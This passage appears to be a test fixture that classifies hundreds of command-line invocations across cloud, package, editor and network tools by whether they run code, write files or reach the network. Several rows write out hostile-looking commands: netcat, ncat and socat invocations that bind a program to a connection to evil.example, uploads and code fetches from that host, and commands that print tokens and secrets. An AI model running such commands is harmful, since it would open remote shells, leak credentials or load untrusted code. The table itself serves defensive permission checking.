  ['helm', 'push', 'c.tgz oci://evil.example', 'reaches', 'sends a chart'], // helm docs: push
  ['helm', 'repo', 'add x https://evil.example', 'reaches', 'adds a host'], // helm docs: repo add
  ['helm', 'dependency', 'update', 'reaches', 'fetches charts'], // helm docs: dependency
  ['helm', 'package', '.', 'writes', 'writes a chart'], // helm docs: package
  ['helm', 'package', '. -d dir', 'writes', 'writes a chart elsewhere'], // helm docs: package
  ['helm', 'create', 'x', 'writes', 'writes a folder'], // helm docs: create
  ['helm', 'uninstall', 'r', 'reaches', 'removes workloads'], // helm docs: uninstall
  ['helm', 'rollback', 'r', 'runs', 'starts an older state'], // helm docs: rollback
  ['helm', 'list', '--kubeconfig=f', 'runs', 'a settings file can name a login program'], // helm docs: helm
  ['terraform', 'apply', '-auto-approve', 'runs', 'runs providers and provisioners, changes things'], // terraform apply -help
  ['terraform', 'destroy', '-auto-approve', 'runs', 'removes things'], // terraform destroy -help
  ['terraform', 'init', '', 'reaches', 'fetches providers and modules'], // terraform init -help
  ['terraform', 'init', '-plugin-dir=dir', 'runs', 'takes providers, which are programs, from a folder'], // terraform init -help
  ['terraform', 'init', '-from-module=https://evil.example/m', 'reaches', 'copies a module'], // terraform init -help
  ['terraform', 'init', '-backend-config=address=https://evil.example', 'reaches', 'keeps the state elsewhere'], // terraform init -help
  ['terraform', 'plan', '', 'runs', 'runs providers and external data sources'], // Terraform docs: external data source
  ['terraform', 'plan', '-out=out', 'writes', 'writes a plan'], // terraform plan -help
  ['terraform', 'plan', '-generate-config-out=out.tf', 'writes', 'writes settings'], // terraform plan -help
  ['terraform', 'plan', '-state=f', 'runs', 'uses another state'], // terraform plan -help
  ['terraform', 'validate', '', 'runs', 'starts providers of the project'], // terraform validate -help
  ['terraform', 'console', '', 'runs', 'reads expressions, starts providers'], // terraform console -help
  ['terraform', 'import', 'a.b c', 'writes', 'changes the state'], // terraform import -help
  ['terraform', 'state', 'rm a.b', 'writes', 'changes the state'], // terraform state rm -help
  ['terraform', 'state', 'push f', 'writes', 'replaces the state'], // terraform state push -help
  ['terraform', 'state', 'pull', 'reaches', 'shows the state, secrets too'], // terraform state pull -help
  ['terraform', 'fmt', '', 'writes', 'changes sources'], // terraform fmt -help
  ['terraform', 'taint', 'a.b', 'writes', 'changes the state'], // terraform taint -help
  ['terraform', 'workspace', 'delete x', 'writes', 'removes a state'], // terraform workspace delete -help
  ['terraform', 'force-unlock', 'x', 'writes', 'breaks a lock'], // terraform force-unlock -help
  ['terraform', 'providers', 'mirror dir', 'writes', 'fetches programs into a folder'], // terraform providers mirror -help
  ['terraform', 'get', '', 'reaches', 'fetches modules'], // terraform get -help
  ['terraform', 'test', '', 'runs', 'makes real things'], // terraform test -help
  ['terraform', '', '-chdir=dir plan', 'runs', 'uses another project'], // terraform -help
  ['aws', 's3', 'cp s3://b/f out', 'writes', 'writes a file here'], // aws s3 cp help
  ['aws', 's3', 'cp f s3://b/f', 'reaches', 'sends a file'], // aws s3 cp help
  ['aws', 's3', 'sync . s3://b --delete', 'reaches', 'sends files, removes others'], // aws s3 sync help
  ['aws', 's3', 'rm s3://b --recursive', 'reaches', 'removes files'], // aws s3 rm help
  ['aws', 's3', 'ls --endpoint-url=https://evil.example', 'reaches', 'talks to another host'], // aws help
  ['aws', 's3', 'ls --profile=x', 'runs', 'a profile can name a login program'], // AWS CLI docs: credential_process
  ['aws', 's3', 'presign s3://b/f', 'reaches', 'makes an open address'], // aws s3 presign help
  ['aws', 's3api', 'get-object --bucket b --key k out', 'writes', 'writes a file here'], // aws s3api get-object help
  ['aws', 's3api', 'put-object --bucket b --key k --body f', 'reaches', 'sends a file'], // aws s3api put-object help
  ['aws', 'ssm', 'start-session --target i', 'runs', 'opens a shell, runs a plugin here'], // aws ssm start-session help
  ['aws', 'ssm', 'send-command --document-name AWS-RunShellScript', 'runs', 'runs commands on machines'], // aws ssm send-command help
  ['aws', 'ecs', 'execute-command --command id --interactive --task t', 'runs', 'runs a command in a container'], // aws ecs execute-command help
  ['aws', 'lambda', 'invoke --function-name f out', 'runs', 'runs a function, writes a file'], // aws lambda invoke help
  ['aws', 'lambda', 'update-function-code --function-name f --zip-file fileb://f', 'runs', 'replaces code'], // aws lambda update-function-code help
  ['aws', 'configure', 'set credential_process ./x', 'writes', 'sets a login program'], // aws configure set help
  ['aws', 'eks', 'update-kubeconfig --name c', 'writes', 'writes settings with a login program'], // aws eks update-kubeconfig help
  ['aws', 'eks', 'update-kubeconfig --name c --kubeconfig out', 'writes', 'writes any file'], // aws eks update-kubeconfig help
  ['aws', 'ec2', 'run-instances --user-data file://f', 'runs', 'starts machines'], // aws ec2 run-instances help
  ['aws', 'ec2', 'terminate-instances --instance-ids i', 'reaches', 'removes machines'], // aws ec2 terminate-instances help
  [
    'aws',
    'cloudformation',
    'package --template-file f --s3-bucket b --output-template-file out',
    'writes',
    'writes a file, sends others',
  ], // aws cloudformation package help
  ['aws', 'cloudformation', 'deploy --template-file f --stack-name s', 'runs', 'makes things'], // aws cloudformation deploy help
  ['aws', 'emr', 'ssh --cluster-id c --key-pair-file k --command id', 'runs', 'runs a command there'], // aws emr ssh help
  ['aws', 'ecr', 'get-login-password', 'reaches', 'shows a password'], // aws ecr get-login-password help
  ['aws', 'codeartifact', 'login --tool pip --repository r --domain d', 'runs', 'runs a tool, changes its settings'], // aws codeartifact login help
  ['aws', 'secretsmanager', 'get-secret-value --secret-id s', 'reaches', 'shows a secret'], // aws secretsmanager get-secret-value help
  ['aws', 'iam', 'create-access-key', 'reaches', 'makes a key'], // aws iam create-access-key help
  ['aws', 'sts', 'get-caller-identity --endpoint-url=https://evil.example', 'reaches', 'talks to another host'], // aws help
  ['gcloud', 'compute', 'ssh h --command=id', 'runs', 'runs a command there'], // gcloud compute ssh --help
  ['gcloud', 'compute', 'ssh h -- -o ProxyCommand=id', 'runs', 'gives options to ssh'], // gcloud compute ssh --help
  ['gcloud', 'compute', 'scp f h:', 'reaches', 'sends a file'], // gcloud compute scp --help
  ['gcloud', 'compute', 'config-ssh', 'writes', 'changes ssh settings'], // gcloud compute config-ssh --help
  ['gcloud', 'config', 'set account x', 'writes', 'changes settings'], // gcloud config set --help
  ['gcloud', 'auth', 'print-access-token', 'reaches', 'shows a token'], // gcloud auth print-access-token --help
  ['gcloud', 'components', 'install x', 'reaches', 'fetches programs'], // gcloud components install --help
  ['gcloud', 'builds', 'submit .', 'runs', 'sends the folder and builds it'], // gcloud builds submit --help
  ['gcloud', 'app', 'deploy', 'runs', 'sends and starts the project'], // gcloud app deploy --help
  ['gcloud', 'functions', 'call f', 'runs', 'runs a function'], // gcloud functions call --help
  ['gcloud', 'storage', 'cp gs://b/f out', 'writes', 'writes a file here'], // gcloud storage cp --help
  ['gcloud', 'storage', 'rm gs://b/f', 'reaches', 'removes a file'], // gcloud storage rm --help
  ['gcloud', 'container', 'clusters get-credentials c', 'writes', 'writes settings with a login program'], // gcloud container clusters get-credentials --help
  ['gcloud', 'projects', 'list --flags-file=f', 'runs', 'takes any options from a file'], // gcloud topic flags-file
  ['gcloud', 'projects', 'list --impersonate-service-account=x', 'reaches', 'acts as another account'], // gcloud help
  ['gcloud', 'iam', 'service-accounts keys create out --iam-account=x', 'writes', 'writes a key'], // gcloud iam service-accounts keys create --help
  ['az', 'vm', 'run-command invoke --command-id RunShellScript --scripts id', 'runs', 'runs commands on a machine'], // Azure CLI reference
  ['az', 'aks', 'command invoke --command id', 'runs', 'runs a command in a cluster'], // Azure CLI reference
  ['az', 'aks', 'get-credentials -n c -g g -f out', 'writes', 'writes settings'], // Azure CLI reference
  ['az', 'rest', '--method delete --url https://management.azure.com/x', 'reaches', 'asks any address'], // Azure CLI reference
  ['az', 'rest', '--url https://management.azure.com/x --output-file out', 'writes', 'writes a file'], // Azure CLI reference
  ['az', 'extension', 'add --source https://evil.example/x.whl', 'runs', 'fetches code and loads it'], // Azure CLI reference
  ['az', 'storage', 'blob upload -f f -c c -n n', 'reaches', 'sends a file'], // Azure CLI reference
  ['az', 'storage', 'blob download -f out -c c -n n', 'writes', 'writes a file'], // Azure CLI reference
  ['az', 'config', 'set a.b=c', 'writes', 'changes settings'], // Azure CLI reference
  ['az', 'account', 'get-access-token', 'reaches', 'shows a token'], // Azure CLI reference
  ['az', 'ssh', 'vm -n v -g g', 'runs', 'runs ssh'], // Azure CLI reference
  ['az', 'acr', 'build .', 'runs', 'sends the folder and builds it'], // Azure CLI reference
  ['az', 'group', 'delete -n g -y', 'reaches', 'removes things'], // Azure CLI reference
  ['gh', 'alias', 'set --shell x id', 'writes', 'sets a shell alias'], // gh alias set --help
  ['gh', 'alias', 'import f', 'writes', 'sets aliases of a file'], // gh alias import --help
  ['gh', '', 'x', 'runs', 'an alias or extension may have that name'], // gh alias set --help
  ['gh', 'extension', 'install evil/gh-x', 'runs', 'fetches a program'], // gh extension install --help
  ['gh', 'extension', 'exec x', 'runs', 'runs an extension'], // gh extension exec --help
  ['gh', 'extension', 'upgrade --all', 'runs', 'fetches programs'], // gh extension upgrade --help
  ['gh', 'api', '-X DELETE repos/a/b', 'reaches', 'changes anything'], // gh api --help
  ['gh', 'api', 'repos/a/b -f name=x', 'reaches', 'a field makes it a POST'], // gh api --help
  ['gh', 'api', 'repos/a/b --input f', 'reaches', 'sends a file'], // gh api --help
  ['gh', 'api', 'repos/a/b -F x=@f', 'reaches', 'sends a file'], // gh api --help
  ['gh', 'api', '--hostname evil.example user', 'reaches', 'talks to another host'], // gh api --help
  ['gh', 'api', '--cache 1h user', 'writes', 'writes a cache'], // gh api --help
  ['gh', 'repo', 'clone a/b -- -u id', 'runs', 'gives options to git clone'], // gh repo clone --help
  ['gh', 'repo', 'clone a/b dir', 'writes', 'writes a folder'], // gh repo clone --help
  ['gh', 'repo', 'fork a/b --clone -- -u id', 'runs', 'gives options to git clone'], // gh repo fork --help
  ['gh', 'repo', 'delete a/b --yes', 'reaches', 'removes a repository'], // gh repo delete --help
  ['gh', 'repo', 'sync --force', 'writes', 'overwrites a branch'], // gh repo sync --help
  ['gh', 'repo', 'create x --push --source .', 'reaches', 'sends the project'], // gh repo create --help
  ['gh', 'pr', 'checkout 1', 'writes', 'changes the work tree; hooks run'], // gh pr checkout --help
  ['gh', 'pr', 'merge 1', 'reaches', 'merges'], // gh pr merge --help
  ['gh', 'pr', 'view 1 --web', 'runs', 'runs a browser'], // gh pr view --help
  ['gh', 'pr', 'diff 1', 'runs', 'runs the pager that is set'], // gh help environment
  ['gh', 'pr', 'create -F f', 'reaches', 'sends a file as text'], // gh pr create --help
  ['gh', 'issue', 'create --web', 'runs', 'runs a browser'], // gh issue create --help
  ['gh', 'issue', 'create -t x -F f', 'reaches', 'sends a file as text'], // gh issue create --help
  ['gh', 'gist', 'create f', 'reaches', 'sends a file'], // gh gist create --help
  ['gh', 'gist', 'edit x', 'runs', 'runs an editor'], // gh gist edit --help
  ['gh', 'gist', 'clone x', 'writes', 'writes a folder'], // gh gist clone --help
  ['gh', 'release', 'download -O out', 'writes', 'writes a file'], // gh release download --help
  ['gh', 'release', 'download -D dir', 'writes', 'writes files'], // gh release download --help
  ['gh', 'release', 'upload v1 f', 'reaches', 'sends a file'], // gh release upload --help
  ['gh', 'run', 'download -D dir', 'writes', 'writes files'], // gh run download --help
  ['gh', 'run', 'rerun 1', 'runs', 'runs a workflow again'], // gh run rerun --help
  ['gh', 'workflow', 'run w', 'runs', 'runs a workflow'], // gh workflow run --help
  ['gh', 'secret', 'set x -b y', 'reaches', 'sets a secret'], // gh secret set --help
  ['gh', 'config', 'set pager id', 'writes', 'sets a program as pager'], // gh config set --help
  ['gh', 'config', 'set editor id', 'writes', 'sets a program as editor'], // gh config set --help
  ['gh', 'browse', '', 'runs', 'runs a browser'], // gh browse --help
  ['gh', 'codespace', 'ssh -- id', 'runs', 'runs ssh'], // gh codespace ssh --help
  ['gh', 'codespace', 'cp -e f remote:f', 'runs', 'runs scp'], // gh codespace cp --help
  ['gh', 'auth', 'status --show-token', 'reaches', 'shows a token'], // gh auth status --help
  ['gh', 'auth', 'token', 'reaches', 'shows a token'], // gh auth token --help
  ['gh', 'auth', 'setup-git', 'writes', 'changes git settings'], // gh auth setup-git --help
  ['gh', 'ssh-key', 'add f', 'reaches', 'adds a key to the account'], // gh ssh-key add --help
  ['systemctl', 'edit', 'u', 'runs', 'runs an editor'], // systemctl(1)
  ['systemctl', 'status', 'u', 'runs', 'runs a pager; keys of it run a shell'], // systemctl(1)
  ['systemctl', 'status', '-H host u', 'runs', 'runs ssh'], // systemctl(1)
  ['systemctl', 'status', '-M c u', 'runs', 'talks to a container'], // systemctl(1)
  ['systemctl', 'start', 'u', 'runs', 'starts a program'], // systemctl(1)
  ['systemctl', 'enable', './x.service', 'writes', 'installs a unit of any path'], // systemctl(1)
  ['systemctl', 'link', './x.service', 'writes', 'installs a unit of any path'], // systemctl(1)
  ['systemctl', 'list-units', '-H host', 'runs', 'runs ssh'], // systemctl(1)
  ['systemctl', 'set-environment', 'LD_PRELOAD=./x', 'writes', 'sets variables of services'], // systemctl(1)
  ['systemctl', 'set-property', 'u CPUQuota=1%', 'writes', 'changes a unit'], // systemctl(1)
  ['systemctl', 'kill', 'u', 'writes', 'sends a signal'], // systemctl(1)
  ['systemctl', 'isolate', 'rescue.target', 'writes', 'stops services'], // systemctl(1)
  ['systemctl', 'poweroff', '', 'writes', 'turns the machine off'], // systemctl(1)
  ['systemctl', 'switch-root', 'dir', 'runs', 'starts another system'], // systemctl(1)
  ['journalctl', '', '--vacuum-time=1s', 'writes', 'removes logs'], // journalctl(1)
  ['journalctl', '', '--vacuum-size=1', 'writes', 'removes logs'], // journalctl(1)
  ['journalctl', '', '--vacuum-files=1', 'writes', 'removes logs'], // journalctl(1)
  ['journalctl', '', '--rotate', 'writes', 'starts new log files'], // journalctl(1)
  ['journalctl', '', '--flush', 'writes', 'moves logs to disk'], // journalctl(1)
  ['journalctl', '', '--relinquish-var', 'writes', 'moves logs off the disk'], // journalctl(1)
  ['journalctl', '', '--cursor-file=out.txt', 'writes', 'writes a file'], // journalctl(1)
  ['journalctl', '', '--update-catalog', 'writes', 'writes an index'], // journalctl(1)
  ['journalctl', '', '--setup-keys', 'writes', 'writes keys'], // journalctl(1)
  ['journalctl', '', '-u x', 'runs', 'runs a pager; keys of it run a shell'], // journalctl(1)
  ['apt', 'install', './x.deb', 'runs', 'runs scripts of the package'], // apt(8)
  ['apt', 'remove', 'x', 'runs', 'removes a package, runs its scripts'], // apt(8)
  ['apt', 'update', '-o APT::Update::Pre-Invoke::=id', 'runs', 'a setting runs shell text'], // apt.conf(5)
  ['apt', 'install', '-o DPkg::Pre-Invoke::=id x', 'runs', 'a setting runs shell text'], // apt.conf(5)
  ['apt', 'list', '-c f', 'runs', 'reads settings from a file'], // apt(8)
  ['apt', 'list', '-o Dir::Cache=dir', 'writes', 'a setting leads writes elsewhere'], // apt.conf(5)
  ['apt', 'changelog', 'x', 'runs', 'fetches, runs a pager'], // apt(8)
  ['apt', 'download', 'x', 'writes', 'fetches a file'], // apt(8)
  ['apt', 'source', 'x', 'writes', 'fetches and unpacks sources'], // apt(8)
  ['apt', 'edit-sources', '', 'runs', 'runs an editor'], // apt(8)
  ['apt', 'upgrade', '-y', 'runs', 'installs packages'], // apt(8)
  ['apt-get', 'update', '-o APT::Update::Pre-Invoke::=id', 'runs', 'a setting runs shell text'], // apt.conf(5)
  ['apt-get', 'update', '-c f', 'runs', 'reads settings from a file'], // apt-get(8)
  ['apt-get', 'install', '-o Dpkg::Options::=--force-all x', 'runs', 'gives options to dpkg'], // apt.conf(5)
  ['apt-get', 'source', '-b x', 'runs', 'fetches and builds sources'], // apt-get(8)
  ['apt-get', 'changelog', 'x', 'runs', 'fetches, runs a pager'], // apt-get(8)
  ['apt-get', 'download', 'x', 'writes', 'fetches a file'], // apt-get(8)
  ['apt-cache', 'search', '-c f x', 'runs', 'reads settings from a file'], // apt-cache(8)
  ['apt-key', 'add', 'f', 'writes', 'trusts a key'], // apt-key(8)
  ['dpkg', '', '-i x.deb', 'runs', 'runs scripts of the package'], // dpkg(1)
  ['dpkg', '', '-r x', 'runs', 'removes a package, runs its scripts'], // dpkg(1)
  ['dpkg', '', '-i x.deb --pre-invoke=id', 'runs', 'runs shell text first'], // dpkg(1)
  ['dpkg', '', '-i x.deb --post-invoke=id', 'runs', 'runs shell text after'], // dpkg(1)
  ['dpkg', '', '-i x.deb --log=out.txt', 'writes', 'writes a log'], // dpkg(1)
  ['dpkg', '', '-x x.deb dir', 'writes', 'unpacks files'], // dpkg(1)
  ['dpkg', '', '-l', 'runs', 'may run a pager'], // dpkg(1)
  ['dpkg-deb', '', '-b dir out.deb', 'writes', 'writes a package'], // dpkg-deb(1)
  ['rpm', '', '-qa --pipe id', 'runs', 'pipes its output into a command'], // rpm(8)
  ['rpm', '', '-i x.rpm', 'runs', 'runs scripts of the package'], // rpm(8)
  ['rpm', '', '--import f', 'writes', 'trusts a key'], // rpm(8)
  ['brew', 'install', 'x', 'runs', 'runs a recipe'], // brew(1)
  ['brew', 'sh', '', 'runs', 'runs a shell'], // brew(1)
  ['brew', 'ruby', '-e x', 'runs', 'runs Ruby'], // brew(1)
  ['brew', 'edit', 'x', 'runs', 'runs an editor'], // brew(1)
  ['brew', 'tap', 'a/b https://evil.example/r', 'reaches', 'fetches recipes'], // brew(1)
  ['brew', 'bundle', '--file=f', 'runs', 'runs a Brewfile, which is code'], // brew(1)
  ['psql', '', '-f f.sql', 'runs', 'runs commands of a file'], // psql(1)
  ['psql', '', '-l', 'runs', 'may run a pager'], // psql(1)
  ['pg_dump', '', '-f out.sql d', 'writes', 'writes its output to a file'], // pg_dump(1)
  ['pg_dump', '', '-h evil.example d', 'reaches', 'talks to another host'], // pg_dump(1)
  ['mysql', '', '--plugin-dir=dir --default-auth=x', 'runs', 'loads a library'], // mariadb(1)
  ['mysqldump', '', '-r out.sql d', 'writes', 'writes its output to a file'], // mariadb-dump(1)
  ['mysqldump', '', '--tab=dir d', 'writes', 'writes files'], // mariadb-dump(1)
  ['sqlite3', '', 'f.db .excel', 'runs', 'opens output with a program'], // SQLite CLI docs
  ['awk', '', '-f f.awk f', 'runs', 'takes its program from a file'], // POSIX awk
  ['gawk', '', '-E f.awk', 'runs', 'takes its program from a file'], // gawk(1)
  ['vim', '', '-S f.vim', 'runs', 'runs a script'], // vim(1)
  ['vim', '', '-u f.vim f', 'runs', 'runs a start-up file'], // vim(1)
  ['vim', '', '-s keys f', 'runs', 'types keys of a file'], // vim(1)
  ['vim', '', '-W out.txt f', 'writes', 'writes the keys typed'], // vim(1)
  ['vim', '', '--startuptime out.txt f', 'writes', 'writes figures'], // vim(1)
  ['vim', '', '-i out f', 'writes', 'writes a state file'], // vim(1)
  ['vim', '', 'https://evil.example/f', 'reaches', 'fetches an address'], // vim docs: netrw
  ['ed', '', 'f', 'runs', 'a line with ! runs shell text'], // POSIX ed
  ['emacs', '', '--batch -l f.el', 'runs', 'runs a Lisp file'], // emacs(1)
  ['nano', '', '--speller=./x f', 'runs', 'runs a program as speller'], // nano(1)
  ['nano', '', '-B -C dir f', 'writes', 'writes copies there'], // nano(1)
  ['perl', '', '-i -pe 1 f', 'writes', 'changes files'], // perlrun(1)
  ['python3', '', '-c pass', 'runs', 'runs code'], // python3(1)
  ['python3', '', '-m http.server', 'reaches', 'serves the folder'], // Python docs: http.server
  ['ruby', '', '-i -pe 1 f', 'writes', 'changes files'], // ruby(1)
  ['node', '', '-e 1', 'runs', 'runs code'], // node(1)
  ['node', '', '--require ./x.js f.js', 'runs', 'loads a module first'], // node(1)
  ['node', '', '--check --import=./x.mjs f.js', 'runs', 'loads a module first'], // node(1)
  ['node', '', '--inspect=0.0.0.0:9229 f.js', 'reaches', 'opens a debug port, which runs code'], // node(1)
  ['node', '', '--cpu-prof --cpu-prof-dir=dir f.js', 'writes', 'writes a profile'], // node(1)
  ['node', '', '--redirect-warnings=out.txt f.js', 'writes', 'writes warnings to a file'], // node(1)
  ['openssl', 'enc', '-base64 -in f -out out', 'writes', 'writes a file'], // openssl-enc(1)
  ['openssl', 'x509', '-in f -out out', 'writes', 'writes a file'], // openssl-x509(1)
  ['openssl', 'x509', '-engine ./x -in f', 'runs', 'loads a library'], // openssl(1)
  ['openssl', 'dgst', '-out out f', 'writes', 'writes a file'], // openssl-dgst(1)
  ['openssl', 'dgst', '-provider-path dir -provider x f', 'runs', 'loads a library'], // openssl(1)
  ['openssl', 'dgst', '-engine ./x f', 'runs', 'loads a library'], // openssl-dgst(1)
  ['openssl', 'rand', '-writerand out 1', 'writes', 'writes a file'], // openssl-rand(1)
  ['openssl', 'req', '-config f -new -keyout out', 'writes', 'writes a key; settings can load libraries'], // openssl-req(1)
  ['openssl', 'genrsa', '-out out', 'writes', 'writes a key'], // openssl-genrsa(1)
  ['openssl', 's_client', '-connect evil.example:443', 'reaches', 'talks to any host'], // openssl-s_client(1)
  ['openssl', 's_server', '-WWW -accept 443', 'reaches', 'serves the folder'], // openssl-s_server(1)
  ['openssl', 'ocsp', '-url http://evil.example -respout out', 'reaches', 'asks any host, writes a file'], // openssl-ocsp(1)
  ['openssl', 'pkcs12', '-in f -out out', 'writes', 'writes keys'], // openssl-pkcs12(1)
  ['gpg', '', '-o out -d f', 'writes', 'writes a file'], // gpg(1)
  ['gpg', '', '--output out --decrypt f', 'writes', 'writes a file'], // gpg(1)
  ['gpg', '', '--recv-keys X', 'reaches', 'asks a key server'], // gpg(1)
  ['gpg', '', '--keyserver hkp://evil.example --search-keys x', 'reaches', 'asks any host'], // gpg(1)
  ['gpg', '', '--verify --auto-key-retrieve f', 'reaches', 'fetches keys'], // gpg(1)
  ['gpg', '', '--list-keys --list-options show-photos --photo-viewer=id', 'runs', 'runs a viewer'], // gpg(1)
  ['gpg', '', '--agent-program=./x -d f', 'runs', 'runs a program as agent'], // gpg(1)
  ['gpg', '', '--dirmngr-program=./x --recv-keys X', 'runs', 'runs a program'], // gpg(1)
  ['gpg', '', '--options f --list-keys', 'runs', 'reads settings from a file'], // gpg(1)
  ['gpg', '', '--homedir dir --list-keys', 'writes', 'makes files in a folder; reads its settings'], // gpg(1)
  ['gpg', '', '--import f', 'writes', 'adds keys'], // gpg(1)
  ['gpg', '', '--log-file=out.txt --list-keys', 'writes', 'writes a log'], // gpg(1)
  ['gpg', '', '--list-keys --status-file=out.txt', 'writes', 'writes a file'], // gpg(1)
  ['gcc', '', '-o out f.c', 'writes', 'writes a program'], // gcc(1)
  ['gcc', '', '-wrapper ./x f.c', 'runs', 'runs a program around each pass'], // gcc(1)
  ['gcc', '', '-fplugin=./x.so f.c', 'runs', 'loads a library'], // gcc(1)
  ['gcc', '', '-B dir f.c', 'runs', 'runs passes of a folder'], // gcc(1)
  ['gcc', '', '-specs=f f.c', 'runs', 'a file says what to run'], // gcc(1)
  ['gcc', '', '@f', 'runs', 'takes any options from a file'], // gcc(1)
  ['gcc', '', '-MF out.d -M f.c', 'writes', 'writes a file'], // gcc(1)
  ['make', '', '-f f.mk', 'runs', 'runs another makefile'], // make(1)
  ['make', '', '-C dir', 'runs', 'runs the makefile of another folder'], // make(1)
  ['make', '', '-n SHELL=./x', 'runs', 'a variable names the shell; + lines run in a dry run too'], // GNU make manual
  ['make', '', 'CC=./x', 'runs', 'a variable names a program'], // GNU make manual
  ['make', '', '-n', 'runs', 'shell functions and + lines run in a dry run too'], // GNU make manual
  ['cmake', '', '-P f.cmake', 'runs', 'runs a script'], // cmake(1)
  ['cmake', '', '-E rm f', 'writes', 'removes files'], // cmake(1)
  ['cmake', '', '-E env id', 'runs', 'runs a command'], // cmake(1)
  ['cmake', '', '-DCMAKE_C_COMPILER=./x .', 'runs', 'a variable names a program'], // cmake(1)
  ['gdb', '', '-x f', 'runs', 'runs commands of a file'], // gdb(1)
  ['gdb', '', '-p 1', 'runs', 'takes over a running program'], // gdb(1)
  ['strace', '', '-o out.txt id', 'writes', 'writes a trace'], // strace(1)
  ['ltrace', '', '-o out.txt id', 'writes', 'writes a trace'], // ltrace(1)
  ['tcpdump', '', '-w out', 'writes', 'writes a capture'], // tcpdump(8)
  ['tcpdump', '', '-G 1 -w out -z id', 'runs', 'runs a program per finished file'], // tcpdump(8)
  ['tshark', '', '-X lua_script:f.lua', 'runs', 'runs a Lua script'], // tshark(1)
  ['tshark', '', '-w out', 'writes', 'writes a capture'], // tshark(1)
  ['nmap', '', '--script=./x.nse h', 'runs', 'runs a Lua script'], // nmap(1)
  ['nmap', '', '-oN out.txt h', 'writes', 'writes its output to a file'], // nmap(1)
  ['nmap', '', '-iL f', 'reaches', 'takes hosts from a file'], // nmap(1)
  ['nc', '', '-e id evil.example 80', 'runs', 'runs a program for the connection'], // nc(1)
  ['nc', '', '-l 80', 'reaches', 'opens a port'], // nc(1)
  ['ncat', '', '--sh-exec id evil.example 80', 'runs', 'runs shell text for the connection'], // ncat(1)
  ['ncat', '', '-o out.txt evil.example 80', 'writes', 'writes the traffic'], // ncat(1)
  ['socat', '', '- EXEC:id', 'runs', 'an address runs a program'], // socat(1)
  ['socat', '', '- SYSTEM:id', 'runs', 'an address runs shell text'], // socat(1)
  ['socat', '', '- OPEN:out.txt,creat', 'writes', 'an address writes a file'], // socat(1)
  ['socat', '', '- TCP:evil.example:80', 'reaches', 'an address is a connection'], // socat(1)
  ['dig', '', '@evil.example x', 'reaches', 'asks any server'], // dig(1)
  ['dig', '', '-f f', 'reaches', 'takes names from a file'], // dig(1)
  ['nslookup', '', 'x evil.example', 'reaches', 'asks any server'], // nslookup(1)
  ['ping', '', '-p 61 evil.example', 'reaches', 'sends data to any host'], // ping(8)
  ['ftp', '', 'evil.example', 'runs', 'a line with ! runs shell text'], // ftp(1)
  ['telnet', '', 'evil.example', 'runs', 'its escape can run shell text'], // telnet(1)
  ['ip', 'netns', 'exec n id', 'runs', 'runs a command'], // ip-netns(8)
  ['ip', 'link', 'set eth0 down', 'writes', 'changes the network'], // ip-link(8)
  ['ip', '', '-batch f', 'runs', 'runs ip commands of a file'], // ip(8)
  ['ip', 'route', 'add default via 10.0.0.1', 'writes', 'changes the network'], // ip-route(8)
  ['iptables', '', '-L --modprobe=./x', 'runs', 'runs a module loader'], // iptables(8)
  ['iptables', '', '-F', 'writes', 'removes rules'], // iptables(8)
  ['sysctl', '', '-w a.b=1', 'writes', 'changes the kernel'], // sysctl(8)
  ['sysctl', '', 'a.b=1', 'writes', 'changes the kernel'], // sysctl(8)
  ['sysctl', '', '--system', 'writes', 'changes the kernel'], // sysctl(8)
  ['mount', '', '/dev/x /mnt', 'writes', 'mounts; helpers run'], // mount(8)
  ['crontab', '', '-e', 'runs', 'runs an editor'], // crontab(1)
  ['crontab', '', 'f', 'runs', 'sets commands for later'], // crontab(1)
  ['crontab', '', '-r', 'writes', 'removes the table'], // crontab(1)
  ['at', '', '-f f now', 'runs', 'runs commands later'], // POSIX at
  ['at', '', '-r 1', 'writes', 'removes a job'], // POSIX at
  ['script', '', '-c id out.txt', 'runs', 'runs shell text, writes a record'], // script(1)
  ['logger', '', '-n evil.example x', 'reaches', 'sends to another host'], // logger(1)
  ['logger', '', '-f f', 'writes', 'writes a file into the log'], // logger(1)
  ['mail', '', '-s x a@evil.example', 'reaches', 'sends mail'], // mailx(1)
  ['mailx', '', '-A f -s x a@evil.example', 'reaches', 'reads settings or sends a file'], // mailx(1)
  ['screen', '', '-d -m id', 'runs', 'runs a command'], // screen(1)
  ['screen', '', '-L -Logfile out.txt', 'writes', 'writes a log'], // screen(1)
  ['tmux', 'new-session', '-d id', 'runs', 'runs shell text'], // tmux(1)
  ['tmux', 'run-shell', 'id', 'runs', 'runs shell text'], // tmux(1)
  ['tmux', 'if-shell', 'id a', 'runs', 'runs shell text'], // tmux(1)
  ['tmux', 'pipe-pane', 'id', 'runs', 'pipes into shell text'], // tmux(1)
  ['tmux', 'send-keys', 'id Enter', 'runs', 'types into a shell'], // tmux(1)
  ['tmux', 'source-file', 'f', 'runs', 'runs commands of a file'], // tmux(1)
  ['tmux', 'save-buffer', 'out.txt', 'writes', 'writes a file'], // tmux(1)
  ['tmux', '', '-f f ls', 'runs', 'runs commands of a file'], // tmux(1)
  ['watch', '', 'id', 'runs', 'runs shell text'], // watch(1)
  ['flock', '', 'f id', 'runs', 'runs a command; makes the file'], // flock(1)
  ['xargs', '', 'id', 'runs', 'runs a command'], // xargs(1)
  ['nsenter', '', '-t 1 -a id', 'runs', 'runs a command elsewhere'], // nsenter(1)
  ['xmllint', '', '--output out.xml f.xml', 'writes', 'writes a file'], // xmllint(1)
  ['xmllint', '', 'https://evil.example/f.xml', 'reaches', 'fetches an address'], // xmllint(1)
  ['xmllint', '', '--noent f.xml', 'reaches', 'entities can read files and hosts'], // xmllint(1)
  ['xsltproc', '', '-o out s.xsl f.xml', 'writes', 'writes files'], // xsltproc(1)
  ['pandoc', '', '-o out f.md', 'writes', 'writes a file'], // pandoc(1)
  ['pandoc', '', '--filter=./x f.md', 'runs', 'runs a filter'], // pandoc(1)
  ['pandoc', '', '-L f.lua f.md', 'runs', 'runs a Lua filter'], // pandoc(1)
  ['pandoc', '', '--pdf-engine=./x -o out.pdf f.md', 'runs', 'runs a program'], // pandoc(1)
  ['pandoc', '', 'https://evil.example/f', 'reaches', 'fetches an address'], // pandoc(1)
  ['pandoc', '', '--extract-media=dir f.docx', 'writes', 'writes files'], // pandoc(1)
  ['ffmpeg', '', '-i f out.mp4', 'writes', 'writes a file'], // ffmpeg(1)
  ['ffmpeg', '', '-i https://evil.example/f -f null -', 'reaches', 'reads an address'], // ffmpeg(1)
  ['ffmpeg', '', '-report -i f -f null -', 'writes', 'writes a log'], // ffmpeg(1)
